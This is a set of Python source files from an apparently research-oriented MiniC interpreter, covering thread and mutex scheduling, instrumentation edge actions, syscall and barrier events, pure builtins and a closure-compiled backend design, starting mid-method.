        by the caller), False when the thread must wait."""
        if not isinstance(target_tid, int) or not (0 <= target_tid < len(self.threads)):
            raise InterpreterError(f"thread_join() of unknown tid {target_tid!r}")
        target = self.threads[target_tid]
        if target.done:
            return True
        thread.status = WAIT_JOIN
        thread.join_target = target_tid
        return False

    def mutex_create(self) -> int:
        mutex_id = self.kernel.new_mutex_id()
        self._mutex_owner[mutex_id] = None
        self._mutex_queue[mutex_id] = []
        return mutex_id

    def mutex_lock(self, thread: ThreadState, mutex_id) -> bool:
        """Try to acquire; True on success, False when queued."""
        if mutex_id not in self._mutex_owner:
            raise InterpreterError(f"mutex_lock() of unknown mutex {mutex_id!r}")
        plan = self.kernel.faults
        if plan is not None:
            fault = plan.decide("mutex_lock", (mutex_id,))
            if fault is not None:
                # Timed-out acquisition attempts: charge the backoff
                # waits, then take the lock path normally — ownership
                # stays with the scheduler, only timing is perturbed.
                for attempt in range(fault.failures):
                    thread.clock += (
                        self.costs.thread_op
                        + self.costs.retry_backoff * (2 ** attempt)
                    )
        if self._mutex_owner[mutex_id] is None:
            self._mutex_owner[mutex_id] = thread.tid
            if self.lock_hook is not None:
                self.lock_hook(mutex_id, thread.tid)
            return True
        thread.status = WAIT_MUTEX
        thread.waiting_mutex = mutex_id
        self._mutex_queue[mutex_id].append(thread.tid)
        return False

    def mutex_unlock(self, thread: ThreadState, mutex_id) -> bool:
        """Release; wakes the first waiter.  False on bogus unlock."""
        if self._mutex_owner.get(mutex_id) != thread.tid:
            return False
        queue = self._mutex_queue[mutex_id]
        if queue:
            next_tid = queue.pop(0)
            waiter = self.threads[next_tid]
            self._mutex_owner[mutex_id] = next_tid
            if self.lock_hook is not None:
                self.lock_hook(mutex_id, next_tid)
            waiter.status = WAIT_SYSCALL  # its lock syscall now completes
            self._finish_lock_acquisition(waiter)
        else:
            self._mutex_owner[mutex_id] = None
        return True

    def mutex_holder(self, mutex_id: int) -> Optional[int]:
        return self._mutex_owner.get(mutex_id)

    def _finish_lock_acquisition(self, thread: ThreadState) -> None:
        """A queued mutex_lock finally succeeded — deliver its result."""
        event = thread.pending_event
        if isinstance(event, SyscallEvent) and event.name == "mutex_lock":
            thread.waiting_mutex = None
            self.complete_syscall(event, 0)

    def _wake_joiners(self) -> bool:
        woke = False
        for thread in self.threads:
            if thread.status == WAIT_JOIN:
                target = self.threads[thread.join_target]
                if target.done:
                    event = thread.pending_event
                    thread.join_target = None
                    self.complete_syscall(event, target.result)
                    woke = True
        return woke

    # -- interpretation ----------------------------------------------------------------

    def _budget_exceeded(self) -> None:
        raise BudgetExceededError(
            f"{self.name}: instruction budget exceeded "
            f"({self.max_instructions})"
        )

    @property
    def instr_hook(self) -> Optional[Callable[["ThreadState", "Frame", ins.Instr], None]]:
        return self._instr_hook

    @instr_hook.setter
    def instr_hook(
        self, hook: Optional[Callable[["ThreadState", "Frame", ins.Instr], None]]
    ) -> None:
        self._instr_hook = hook
        # Drop the memoized driver loop: a hook forces the switch
        # driver (and removing one re-enables the threaded driver).
        self.__dict__.pop("_run_thread", None)

    def _run_thread(self, thread: ThreadState) -> Optional[Event]:
        """Run one thread until it produces an event, blocks or ends.

        Dispatches to one of four driver loops: {switch, threaded} x
        {plain, profiled}.  Per-instruction hooks (the taint/DualEx
        baselines) need the original instruction objects, so a machine
        with ``instr_hook`` always takes the switch loop regardless of
        backend.  The choice is fixed for a given configuration, so
        the bound loop is memoized as an instance attribute — later
        ``self._run_thread(...)`` calls skip this dispatch entirely.
        """
        if self._code is not None and self._instr_hook is None:
            if self._profile:
                runner = self._run_thread_threaded_profiled
            else:
                runner = self._run_thread_threaded
        elif self._profile:
            runner = self._run_thread_switch_profiled
        else:
            runner = self._run_thread_switch
        self.__dict__["_run_thread"] = runner
        return runner(thread)

    def _run_thread_switch(self, thread: ThreadState) -> Optional[Event]:
        costs = self.costs
        while thread.status == RUNNABLE:
            if thread.pending_transition is not None:
                event = self._resume_transition(thread)
                if event is not None:
                    return event
                continue
            frame = thread.frames[-1]
            instr = frame.function.instrs[frame.index]
            self.stats.instructions += 1
            if self.stats.instructions > self.max_instructions:
                self._budget_exceeded()
            thread.clock += costs.instruction
            if self._instr_hook is not None:
                self._instr_hook(thread, frame, instr)
            event = self._execute(thread, frame, instr)
            if event is not None:
                return event
        return None

    def _run_thread_threaded(self, thread: ThreadState) -> Optional[Event]:
        """The threaded-code driver: the per-instruction prologue is
        hoisted here and everything else lives in the step closures."""
        stats = self.stats
        limit = self.max_instructions
        instruction_cost = self.costs.instruction
        frames = thread.frames
        while thread.status == RUNNABLE:
            if thread.pending_transition is not None:
                event = self._resume_transition(thread)
                if event is not None:
                    return event
                continue
            frame = frames[-1]
            stats.instructions += 1
            if stats.instructions > limit:
                self._budget_exceeded()
            thread.clock += instruction_cost
            event = frame.code[frame.index](self, thread, frame)
            if event is not None:
                return event
        return None

    def _run_thread_switch_profiled(self, thread: ThreadState) -> Optional[Event]:
        costs = self.costs
        counts = self.stats.opcode_counts
        times = self.stats.opcode_time
        elided = self.stats.opcode_elided
        elidable = self._elidable
        while thread.status == RUNNABLE:
            if thread.pending_transition is not None:
                event = self._resume_transition(thread)
                if event is not None:
                    return event
                continue
            frame = thread.frames[-1]
            index = frame.index
            instr = frame.function.instrs[index]
            opname = instr.opname
            before = thread.clock
            self.stats.instructions += 1
            if self.stats.instructions > self.max_instructions:
                self._budget_exceeded()
            thread.clock += costs.instruction
            if self._instr_hook is not None:
                self._instr_hook(thread, frame, instr)
            event = self._execute(thread, frame, instr)
            counts[opname] += 1
            times[opname] += thread.clock - before
            if elidable is not None:
                fn_elidable = elidable.get(frame.function.name)
                if fn_elidable is not None and index in fn_elidable:
                    elided[opname] += 1
            if event is not None:
                return event
        return None

    def _run_thread_threaded_profiled(self, thread: ThreadState) -> Optional[Event]:
        # Profiled machines compile with fuse=False, so one step is
        # exactly one instruction and attribution is exact.
        stats = self.stats
        counts = stats.opcode_counts
        times = stats.opcode_time
        elided = stats.opcode_elided
        elidable = self._elidable
        limit = self.max_instructions
        instruction_cost = self.costs.instruction
        frames = thread.frames
        while thread.status == RUNNABLE:
            if thread.pending_transition is not None:
                event = self._resume_transition(thread)
                if event is not None:
                    return event
                continue
            frame = frames[-1]
            index = frame.index
            opname = frame.function.instrs[index].opname
            before = thread.clock
            stats.instructions += 1
            if stats.instructions > limit:
                self._budget_exceeded()
            thread.clock += instruction_cost
            event = frame.code[index](self, thread, frame)
            counts[opname] += 1
            times[opname] += thread.clock - before
            if elidable is not None:
                fn_elidable = elidable.get(frame.function.name)
                if fn_elidable is not None and index in fn_elidable:
                    elided[opname] += 1
            if event is not None:
                return event
        return None

    def _execute(
        self, thread: ThreadState, frame: Frame, instr: ins.Instr
    ) -> Optional[Event]:
        kind = type(instr)
        if kind is ins.Const:
            self._write(thread, frame, instr.dst, instr.value)
        elif kind is ins.Move:
            self._write(thread, frame, instr.dst, self._read(thread, frame, instr.src))
        elif kind is ins.Binop:
            self._write(
                thread,
                frame,
                instr.dst,
                apply_binop(
                    instr.op,
                    self._read(thread, frame, instr.left),
                    self._read(thread, frame, instr.right),
                ),
            )
        elif kind is ins.Unop:
            self._write(
                thread,
                frame,
                instr.dst,
                apply_unop(instr.op, self._read(thread, frame, instr.operand)),
            )
        elif kind is ins.LoadIndex:
            self._write(
                thread,
                frame,
                instr.dst,
                self._load_index(thread, frame, instr),
            )
        elif kind is ins.StoreIndex:
            self._store_index(thread, frame, instr)
        elif kind is ins.NewList:
            self._write(
                thread,
                frame,
                instr.dst,
                [self._read(thread, frame, item) for item in instr.items],
            )
        elif kind is ins.CallBuiltin:
            args = [self._read(thread, frame, arg) for arg in instr.args]
            self._write(thread, frame, instr.dst, call_builtin(instr.name, args))
        elif kind is ins.CallDirect:
            return self._enter_call(
                thread, frame, instr, self.module.function(instr.func)
            )
        elif kind is ins.CallIndirect:
            target = self._read(thread, frame, instr.callee)
            if not isinstance(target, ins.FuncRef):
                raise InterpreterError(
                    f"indirect call through non-function {target!r}",
                    frame.function.name,
                    frame.index,
                )
            function = self.module.function(target.name)
            if len(function.params) != len(instr.args):
                raise InterpreterError(
                    f"{target.name}() expects {len(function.params)} args",
                    frame.function.name,
                    frame.index,
                )
            return self._enter_call(thread, frame, instr, function)
        elif kind is ins.Syscall:
            return self._raise_syscall(thread, frame, instr)
        elif kind is ins.Jump:
            return self._advance(thread, frame, frame.index, instr.target)
        elif kind is ins.CJump:
            taken = truthy(self._read(thread, frame, instr.cond))
            target = instr.true_target if taken else instr.false_target
            return self._advance(thread, frame, frame.index, target)
        elif kind is ins.Ret:
            return self._return(thread, frame, instr)
        elif kind is ins.Nop:
            pass
        else:  # pragma: no cover
            raise InterpreterError(f"unknown instruction {instr!r}")
        return self._advance(thread, frame, frame.index, frame.index + 1)

    # -- value access --------------------------------------------------------------------

    def _read(self, thread: ThreadState, frame: Frame, name: str):
        if name in frame.locals:
            return frame.locals[name]
        if name in self.globals:
            return self.globals[name]
        # Hoisted-but-unassigned locals read as nil (C-like semantics
        # with zero-initialized storage).
        return None

    def _write(self, thread: ThreadState, frame: Frame, name: str, value) -> None:
        if name in self.globals and name not in frame.locals:
            self.globals[name] = value
        else:
            frame.locals[name] = value

    def _load_index(self, thread: ThreadState, frame: Frame, instr: ins.LoadIndex):
        base = self._read(thread, frame, instr.base)
        index = self._read(thread, frame, instr.index)
        if not isinstance(index, int) or isinstance(index, bool):
            raise InterpreterError(
                "index must be an int", frame.function.name, frame.index
            )
        if isinstance(base, str):
            if 0 <= index < len(base):
                return base[index]
            raise InterpreterError(
                f"string index {index} out of range", frame.function.name, frame.index
            )
        if isinstance(base, list):
            if 0 <= index < len(base):
                return base[index]
            raise InterpreterError(
                f"list index {index} out of range", frame.function.name, frame.index
            )
        raise InterpreterError(
            "indexing a non-indexable value", frame.function.name, frame.index
        )

    def _store_index(self, thread: ThreadState, frame: Frame, instr: ins.StoreIndex) -> None:
        base = self._read(thread, frame, instr.base)
        index = self._read(thread, frame, instr.index)
        value = self._read(thread, frame, instr.src)
        if not isinstance(base, list):
            raise InterpreterError(
                "store into a non-list", frame.function.name, frame.index
            )
        if not isinstance(index, int) or not (0 <= index < len(base)):
            raise InterpreterError(
                f"list store index {index!r} out of range",
                frame.function.name,
                frame.index,
            )
        base[index] = value

    # -- control transfer -------------------------------------------------------------------

    def _single_successor(self, frame: Frame) -> int:
        succs = frame.function.successors(frame.index)
        if len(succs) != 1:  # pragma: no cover - callers guarantee this
            raise InterpreterError("expected a unique successor")
        return succs[0]

    def _advance(
        self, thread: ThreadState, frame: Frame, src: int, dst: int
    ) -> Optional[Event]:
        """Cross the edge src->dst, applying instrumentation actions."""
        actions = frame.plan.actions_for(src, dst) if frame.plan is not None else None
        if actions:
            return self._apply_actions(thread, frame, dst, list(actions))
        frame.index = dst
        return None

    def _apply_actions(
        self,
        thread: ThreadState,
        frame: Frame,
        dst: int,
        actions: List[object],
    ) -> Optional[Event]:
        costs = self.costs
        while actions:
            action = actions.pop(0)
            if isinstance(action, CounterAdd):
                thread.counter_stack[-1] += action.delta
                thread.clock += costs.edge_action
                self.stats.edge_actions += 1
            elif isinstance(action, ElidedAdd):
                # Pruned counter updates: accounting only.  The clock is
                # charged per original action (sequential float adds, so
                # pruned and unpruned plans stay bit-identical).
                edge_cost = costs.edge_action
                for _ in range(action.count):
                    thread.clock += edge_cost
                self.stats.edge_actions += action.count
            elif isinstance(action, LoopExit):
                self._pop_loop_record(thread, frame, action.head)
            elif isinstance(action, LoopSync):
                thread.clock += costs.barrier
                self.stats.barriers += 1
                iteration = self._bump_loop_record(thread, frame, action.head)
                event = BarrierEvent(
                    self,
                    thread.tid,
                    frame.function.name,
                    frame.index,
                    thread.counter,
                    action.head,
                    action.reset_to,
                    iteration,
                )
                thread.status = WAIT_BARRIER
                thread.pending_event = event
                thread.pending_transition = (dst, actions)
                return event
            else:  # pragma: no cover
                raise InterpreterError(f"unknown edge action {action!r}")
        frame.index = dst
        thread.pending_transition = None
        return None

    def _bump_loop_record(self, thread: ThreadState, frame: Frame, head: int) -> int:
        """Count a back-edge crossing; returns the 1-based iteration."""
        depth = len(thread.frames)
        if thread.loop_stack:
            record = thread.loop_stack[-1]
            if record[0] == depth and record[1] == frame.function.name and record[2] == head:
                record[3] += 1
                return record[3]
        thread.loop_stack.append([depth, frame.function.name, head, 1])
        return 1

    def _pop_loop_record(self, thread: ThreadState, frame: Frame, head: int) -> None:
        """Close a loop activation (and any nested ones above it)."""
        depth = len(thread.frames)
        for position in range(len(thread.loop_stack) - 1, -1, -1):
            record = thread.loop_stack[position]
            if record[0] == depth and record[1] == frame.function.name and record[2] == head:
                del thread.loop_stack[position:]
                return

    def _resume_transition(self, thread: ThreadState) -> Optional[Event]:
        dst, actions = thread.pending_transition
        thread.pending_transition = None
        frame = thread.frames[-1]
        return self._apply_actions(thread, frame, dst, actions)

    # -- calls and returns ----------------------------------------------------------------------

    def _enter_call(
        self,
        thread: ThreadState,
        frame: Frame,
        instr,
        function: IRFunction,
    ) -> Optional[Event]:
        scoped = False
        if frame.plan is not None and frame.index in frame.plan.scoped_calls:
            scoped = True
        args = [self._read(thread, frame, arg) for arg in instr.args]
        if len(args) != len(function.params):
            raise InterpreterError(
                f"{function.name}() expects {len(function.params)} args",
                frame.function.name,
                frame.index,
            )
        callee = self._new_frame(function, instr.dst, scoped)
        for param, value in zip(function.params, args):
            callee.locals[param] = value
        if scoped:
            # Section 6: save the counter, start a fresh scope at 0.
            thread.counter_stack.append(0)
            self.stats.max_stack_depth = max(
                self.stats.max_stack_depth, len(thread.counter_stack)
            )
        thread.frames.append(callee)
        if self.call_hook is not None:
            self.call_hook(thread, frame, callee, instr)
        return None

    def _return(self, thread: ThreadState, frame: Frame, instr: ins.Ret) -> Optional[Event]:
        value = self._read(thread, frame, instr.src) if instr.src is not None else None
        # Apply the ret -> exit edge actions (loop-exit compensations).
        event = self._advance(thread, frame, frame.index, frame.function.exit)
        if event is not None:
            # A barrier can never sit on a ret edge (rets are loop exits,
            # not back edges) — guard anyway.
            raise InterpreterError("barrier on a return edge")
        if frame.scoped:
            thread.counter_stack.pop()
        # Drop loop records of the frame being popped (loops exited by
        # returning are already closed by their exit-edge LoopExit, but
        # guard against non-instrumented exits).
        depth = len(thread.frames)
        thread.loop_stack = [r for r in thread.loop_stack if r[0] < depth]
        thread.frames.pop()
        if not thread.frames:
            thread.result = value
            thread.status = DONE
            return None
        caller = thread.frames[-1]
        call_instr = caller.function.instrs[caller.index]
        self._write(thread, caller, call_instr.dst, value)
        if self.return_hook is not None:
            self.return_hook(thread, frame, caller, call_instr.dst, value)
        return self._advance(thread, caller, caller.index, caller.index + 1)

    # -- syscalls ------------------------------------------------------------------------------------

    def _raise_syscall(
        self, thread: ThreadState, frame: Frame, instr: ins.Syscall
    ) -> SyscallEvent:
        args = tuple(self._read(thread, frame, arg) for arg in instr.args)
        self.stats.syscalls += 1
        self.stats.counter_samples.append(thread.counter_stack[-1])
        self.stats.max_stack_depth = max(
            self.stats.max_stack_depth, len(thread.counter_stack)
        )
        event = SyscallEvent(
            self,
            thread.tid,
            frame.function.name,
            frame.index,
            thread.counter,
            instr.name,
            args,
        )
        thread.status = WAIT_SYSCALL
        thread.pending_event = event
        return event
