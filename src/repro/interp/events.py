"""Events surfaced by an executing machine to its driver.

A machine (one program execution) never touches its environment
directly — it *yields* events.  The driver (native runner, LDX engine,
a baseline) resolves each event and resumes the machine.  This is the
interpreter-level analogue of the paper's syscall interception wrappers.
"""

from __future__ import annotations

from typing import Tuple


class Event:
    """Base class for machine events."""

    __slots__ = ("machine", "thread_id", "function", "index", "counter")

    def __init__(
        self,
        machine,
        thread_id: int,
        function: str,
        index: int,
        counter: Tuple[int, ...],
    ) -> None:
        self.machine = machine
        self.thread_id = thread_id
        self.function = function
        self.index = index
        # Snapshot of the thread's counter stack at the event.
        self.counter = counter


class SyscallEvent(Event):
    """The thread is at a syscall; the driver must supply its result."""

    __slots__ = ("name", "args")

    def __init__(
        self,
        machine,
        thread_id: int,
        function: str,
        index: int,
        counter: Tuple[int, ...],
        name: str,
        args: tuple,
    ) -> None:
        # Flattened (no super().__init__): events are constructed once
        # per syscall on the hot driver path.
        self.machine = machine
        self.thread_id = thread_id
        self.function = function
        self.index = index
        self.counter = counter
        self.name = name
        self.args = args

    def __repr__(self) -> str:
        return (
            f"<Syscall {self.name}{self.args} cnt={self.counter} "
            f"at {self.function}@{self.index} t{self.thread_id}>"
        )


class BarrierEvent(Event):
    """The thread reached a loop back-edge barrier (Algorithm 3 sync()).

    ``iteration`` is the 1-based count of back-edge crossings of this
    loop activation; two executions align barrier crossings with equal
    (function, loop_head, iteration).
    """

    __slots__ = ("loop_head", "reset_to", "iteration")

    def __init__(
        self,
        machine,
        thread_id: int,
        function: str,
        index: int,
        counter: Tuple[int, ...],
        loop_head: int,
        reset_to: int,
        iteration: int = 0,
    ) -> None:
        self.machine = machine
        self.thread_id = thread_id
        self.function = function
        self.index = index
        self.counter = counter
        self.loop_head = loop_head
        self.reset_to = reset_to
        self.iteration = iteration

    @property
    def loop_key(self) -> Tuple[str, int, int]:
        """Identity of this barrier crossing across executions."""
        return (self.function, self.loop_head, self.iteration)

    def __repr__(self) -> str:
        return (
            f"<Barrier loop@{self.loop_head}#{self.iteration} cnt={self.counter} "
            f"in {self.function} t{self.thread_id}>"
        )
