"""The MiniC interpreter: machine, events, builtins and cost model."""

from repro.interp.costs import DEFAULT_COSTS, CostModel
from repro.interp.events import BarrierEvent, Event, SyscallEvent
from repro.interp.machine import Machine, MachineStats, ThreadState
from repro.interp.resolve import resolve_event_locally, resolve_syscall_locally

__all__ = [
    "DEFAULT_COSTS",
    "CostModel",
    "BarrierEvent",
    "Event",
    "SyscallEvent",
    "Machine",
    "MachineStats",
    "ThreadState",
    "resolve_event_locally",
    "resolve_syscall_locally",
]
