"""The MiniC interpreter: machine, events, builtins and cost model."""

from repro.interp.compile import (
    BACKEND_SWITCH,
    BACKEND_THREADED,
    BACKENDS,
    CompiledModule,
    compile_module,
    compiled_for_module,
    get_default_backend,
    relevance_enabled,
    resolve_backend,
    set_default_backend,
    set_relevance_enabled,
)
from repro.interp.costs import DEFAULT_COSTS, CostModel
from repro.interp.events import BarrierEvent, Event, SyscallEvent
from repro.interp.machine import Machine, MachineStats, ThreadState
from repro.interp.profiler import (
    profile_payload,
    profile_rows,
    profiles_payload,
    render_profile,
    render_profiles,
)
from repro.interp.resolve import resolve_event_locally, resolve_syscall_locally

__all__ = [
    "BACKEND_SWITCH",
    "BACKEND_THREADED",
    "BACKENDS",
    "CompiledModule",
    "DEFAULT_COSTS",
    "CostModel",
    "BarrierEvent",
    "Event",
    "SyscallEvent",
    "Machine",
    "MachineStats",
    "ThreadState",
    "compile_module",
    "compiled_for_module",
    "get_default_backend",
    "profile_payload",
    "profile_rows",
    "profiles_payload",
    "relevance_enabled",
    "render_profile",
    "render_profiles",
    "resolve_backend",
    "resolve_event_locally",
    "resolve_syscall_locally",
    "set_default_backend",
    "set_relevance_enabled",
]
