"""Implementations of the pure MiniC builtins.

Each builtin receives already-evaluated argument values and returns a
MiniC value.  Arity and type errors raise InterpreterError — static
checks cannot validate intrinsic arity, so the runtime does.
"""

from __future__ import annotations

from typing import Callable, Dict, List

from repro.errors import InterpreterError
from repro.ir.instructions import FuncRef
from repro.ir.ops import stringify
from repro.lang.intrinsics import PURE_BUILTINS

_I32_MASK = 0xFFFFFFFF


def _to_i32(value: int) -> int:
    value &= _I32_MASK
    return value - 0x100000000 if value >= 0x80000000 else value


def _need(args, count, name):
    if len(args) != count:
        raise InterpreterError(f"{name}() expects {count} args, got {len(args)}")


def _need_str(value, name):
    if type(value) is str or isinstance(value, str):
        return value
    raise InterpreterError(f"{name}() expects a string")


def _need_list(value, name):
    if type(value) is list or isinstance(value, list):
        return value
    raise InterpreterError(f"{name}() expects a list")


def _need_int(value, name):
    # Exact-type fast path (bool is an int subclass, so `type is int`
    # rejects it and the slow path coerces).
    if type(value) is int:
        return value
    if isinstance(value, bool):
        return int(value)
    if not isinstance(value, int):
        raise InterpreterError(f"{name}() expects an int")
    return value


def _builtin_len(args):
    _need(args, 1, "len")
    value = args[0]
    if isinstance(value, (str, list)):
        return len(value)
    raise InterpreterError("len() expects a string or list")


def _builtin_min(args):
    _need(args, 2, "min")
    return min(_need_int(args[0], "min"), _need_int(args[1], "min"))


def _builtin_max(args):
    _need(args, 2, "max")
    return max(_need_int(args[0], "max"), _need_int(args[1], "max"))


def _builtin_abs(args):
    _need(args, 1, "abs")
    return abs(_need_int(args[0], "abs"))


def _builtin_hash32(args):
    _need(args, 1, "hash32")
    # FNV-1a over the stringified value; deterministic across runs.
    state = 2166136261
    for ch in stringify(args[0]):
        state ^= ord(ch)
        state = (state * 16777619) & _I32_MASK
    return state & 0x7FFFFFFF


def _builtin_to_str(args):
    _need(args, 1, "to_str")
    return stringify(args[0])


def _builtin_parse_int(args):
    _need(args, 1, "parse_int")
    text = args[0]
    if isinstance(text, int) and not isinstance(text, bool):
        return text
    if not isinstance(text, str):
        return None
    text = text.strip()
    negative = text.startswith("-")
    digits = text[1:] if negative else text
    if not digits.isdigit():
        return None
    value = int(digits)
    return -value if negative else value


def _builtin_ord(args):
    _need(args, 1, "ord")
    text = _need_str(args[0], "ord")
    if len(text) != 1:
        raise InterpreterError("ord() expects a 1-char string")
    return ord(text)


def _builtin_chr(args):
    _need(args, 1, "chr")
    value = _need_int(args[0], "chr")
    if not (0 <= value < 0x110000):
        raise InterpreterError("chr() out of range")
    return chr(value)


def _builtin_substr(args):
    _need(args, 3, "substr")
    text = _need_str(args[0], "substr")
    start = _need_int(args[1], "substr")
    end = _need_int(args[2], "substr")
    start = max(0, start)
    end = max(start, min(end, len(text)))
    return text[start:end]


def _builtin_str_find(args):
    _need(args, 2, "str_find")
    return _need_str(args[0], "str_find").find(_need_str(args[1], "str_find"))


def _builtin_str_split(args):
    _need(args, 2, "str_split")
    text = _need_str(args[0], "str_split")
    sep = _need_str(args[1], "str_split")
    if sep == "":
        return list(text)
    return text.split(sep)


def _builtin_str_join(args):
    _need(args, 2, "str_join")
    items = _need_list(args[0], "str_join")
    sep = _need_str(args[1], "str_join")
    return sep.join(stringify(item) for item in items)


def _builtin_str_upper(args):
    _need(args, 1, "str_upper")
    return _need_str(args[0], "str_upper").upper()


def _builtin_str_lower(args):
    _need(args, 1, "str_lower")
    return _need_str(args[0], "str_lower").lower()


def _builtin_str_replace(args):
    _need(args, 3, "str_replace")
    return _need_str(args[0], "str_replace").replace(
        _need_str(args[1], "str_replace"), _need_str(args[2], "str_replace")
    )


def _builtin_str_repeat(args):
    _need(args, 2, "str_repeat")
    count = _need_int(args[1], "str_repeat")
    if count < 0:
        raise InterpreterError("str_repeat() negative count")
    return _need_str(args[0], "str_repeat") * count


def _builtin_starts_with(args):
    _need(args, 2, "starts_with")
    return _need_str(args[0], "starts_with").startswith(
        _need_str(args[1], "starts_with")
    )


def _builtin_ends_with(args):
    _need(args, 2, "ends_with")
    return _need_str(args[0], "ends_with").endswith(_need_str(args[1], "ends_with"))


def _builtin_str_strip(args):
    _need(args, 1, "str_strip")
    return _need_str(args[0], "str_strip").strip()


def _builtin_push(args):
    _need(args, 2, "push")
    items = _need_list(args[0], "push")
    items.append(args[1])
    return items


def _builtin_pop(args):
    _need(args, 1, "pop")
    items = _need_list(args[0], "pop")
    if not items:
        raise InterpreterError("pop() from empty list")
    return items.pop()


def _builtin_list_new(args):
    _need(args, 2, "list_new")
    count = _need_int(args[0], "list_new")
    if count < 0:
        raise InterpreterError("list_new() negative size")
    return [args[1]] * count


def _builtin_list_fill(args):
    _need(args, 2, "list_fill")
    items = _need_list(args[0], "list_fill")
    for index in range(len(items)):
        items[index] = args[1]
    return items


def _builtin_sort(args):
    _need(args, 1, "sort")
    items = _need_list(args[0], "sort")
    try:
        return sorted(items)
    except TypeError:
        raise InterpreterError("sort() needs comparable elements")


def _builtin_contains(args):
    _need(args, 2, "contains")
    haystack = args[0]
    if isinstance(haystack, str):
        return _need_str(args[1], "contains") in haystack
    if isinstance(haystack, list):
        return args[1] in haystack
    raise InterpreterError("contains() expects a string or list")


def _builtin_index_of(args):
    _need(args, 2, "index_of")
    items = _need_list(args[0], "index_of")
    try:
        return items.index(args[1])
    except ValueError:
        return -1


def _builtin_slice(args):
    _need(args, 3, "slice")
    items = _need_list(args[0], "slice")
    start = max(0, _need_int(args[1], "slice"))
    end = max(start, min(_need_int(args[2], "slice"), len(items)))
    return items[start:end]


def _builtin_concat(args):
    _need(args, 2, "concat")
    return _need_list(args[0], "concat") + _need_list(args[1], "concat")


def _builtin_reverse(args):
    _need(args, 1, "reverse")
    value = args[0]
    if isinstance(value, str):
        return value[::-1]
    if isinstance(value, list):
        return value[::-1]
    raise InterpreterError("reverse() expects a string or list")


def _builtin_i32_add(args):
    _need(args, 2, "i32_add")
    return _to_i32(_need_int(args[0], "i32_add") + _need_int(args[1], "i32_add"))


def _builtin_i32_mul(args):
    _need(args, 2, "i32_mul")
    return _to_i32(_need_int(args[0], "i32_mul") * _need_int(args[1], "i32_mul"))


def _builtin_i32_sub(args):
    _need(args, 2, "i32_sub")
    return _to_i32(_need_int(args[0], "i32_sub") - _need_int(args[1], "i32_sub"))


def _builtin_is_nil(args):
    _need(args, 1, "is_nil")
    return args[0] is None


def _builtin_is_str(args):
    _need(args, 1, "is_str")
    return isinstance(args[0], str)


def _builtin_is_int(args):
    _need(args, 1, "is_int")
    return isinstance(args[0], int) and not isinstance(args[0], bool)


def _builtin_is_list(args):
    _need(args, 1, "is_list")
    return isinstance(args[0], list)


def _builtin_type_of(args):
    _need(args, 1, "type_of")
    value = args[0]
    if value is None:
        return "nil"
    if isinstance(value, bool):
        return "bool"
    if isinstance(value, int):
        return "int"
    if isinstance(value, str):
        return "str"
    if isinstance(value, list):
        return "list"
    if isinstance(value, FuncRef):
        return "fn"
    raise InterpreterError(f"unknown value type {type(value).__name__}")


BUILTINS: Dict[str, Callable[[List[object]], object]] = {
    name[len("_builtin_") :]: func
    for name, func in list(globals().items())
    if name.startswith("_builtin_")
}

# Builtins whose first argument is mutated in place; taint baselines
# need this to propagate taint into the container.
MUTATING_BUILTINS = frozenset({"push", "list_fill"})


def call_builtin(name: str, args: List[object]):
    """Invoke a pure builtin by name."""
    handler = BUILTINS.get(name)
    if handler is None:
        raise InterpreterError(f"unknown builtin {name!r}")
    return handler(args)


def _validate_coverage() -> None:
    missing = PURE_BUILTINS - set(BUILTINS)
    extra = set(BUILTINS) - PURE_BUILTINS
    if missing or extra:
        raise AssertionError(
            f"builtin registry mismatch: missing={sorted(missing)} extra={sorted(extra)}"
        )


_validate_coverage()
