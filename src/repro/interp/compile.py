"""Closure-compiled ("threaded code") interpreter backend.

The switch backend walks a ``type(instr)`` if/elif chain, resolves
operator strings, looks up builtins and consults the instrumentation
plan on **every** executed instruction.  This module pays all of that
once, at compile time: each :class:`~repro.ir.function.IRFunction` plus
its :class:`~repro.instrument.plan.FunctionPlan` becomes a flat array
of per-instruction *step closures*

    ``step(machine, thread, frame) -> Optional[Event]``

with everything pre-resolved:

* operators come from :data:`~repro.ir.ops.BINOP_FUNCS` /
  :data:`UNOP_FUNCS` (no op-string comparison per execution);
* builtins are captured handlers (no registry lookup per call);
* successor indices are captured constants;
* edge-action lists are classified at compile time — action-free edges
  become a plain index store, pure ``CounterAdd`` runs are folded into
  one integer add (via :func:`~repro.instrument.plan.fold_counter_adds`),
  and edges carrying ``LoopSync``/``LoopExit`` barrier bookkeeping stay
  thunks into the machine's general action machinery;
* names that are provably frame-local (module globals form a fixed key
  set) read and write ``frame.locals`` directly, skipping the
  locals-then-globals probe;
* maximal straight-line chains of event-free instructions (consts,
  moves, arithmetic, jumps, pure builtins, index loads/stores) become
  *superinstruction runs*: one ``exec``-generated closure executes the
  whole chain with per-instruction prologues inlined and the virtual
  clock and instruction count held in Python locals, so the driver
  loop runs once per chain instead of once per instruction.

The contract is **byte identity**: a compiled run must produce the
same events, counter stacks, virtual clocks and MachineStats as the
switch interpreter, bit for bit.  That drives three non-obvious rules:

* virtual-clock charges are floats, and float addition is not
  associative — a folded counter edge still charges
  ``costs.edge_action`` once per original action, in sequence, never as
  one multiplied add;
* a run pre-checks the instruction budget for its whole chain and, on
  possible overflow, replays through the unfused base steps so the
  budget error fires at the exact instruction with the exact state;
* members whose errors embed a code location (index loads/stores)
  sync ``frame.index`` first, keeping crash surfaces identical.

Rare or complex operations (calls, returns, syscalls, indexing) keep
delegating to the machine's existing helpers, so hook points, scoping
and error surfaces stay single-sourced.
"""

from __future__ import annotations

import os
import weakref
from typing import Callable, Dict, List, Optional, Tuple

from repro.errors import LoweringError, ReproError
from repro.instrument.plan import FunctionPlan, ModulePlan, fold_counter_adds
from repro.interp.builtins import BUILTINS
from repro.interp.events import SyscallEvent
from repro.ir import instructions as ins
from repro.ir.function import IRFunction, IRModule
from repro.ir.ops import BINOP_FUNCS, UNOP_FUNCS, truthy

BACKEND_SWITCH = "switch"
BACKEND_THREADED = "threaded"
BACKENDS = (BACKEND_SWITCH, BACKEND_THREADED)

# A step executes one (possibly fused) instruction and applies its
# out-edge; it returns an event when the thread must yield.
Step = Callable[["Machine", "ThreadState", "Frame"], Optional[object]]

# Longest superinstruction run; bounds generated-code size (a chain
# cycle is cut by the revisit check before this matters in practice).
CHAIN_CAP = 32

# Widened (relevance-guided) regions: total emitted members per
# generated region (tail duplication counts every copy; bounds code
# size), the per-path member limit (bounds how many instructions one
# pass can execute), and the conservative instruction-budget bound per
# pass derived from it (every path member at most once, plus the
# terminator prologue).
_REGION_CAP_DEFAULT = 320
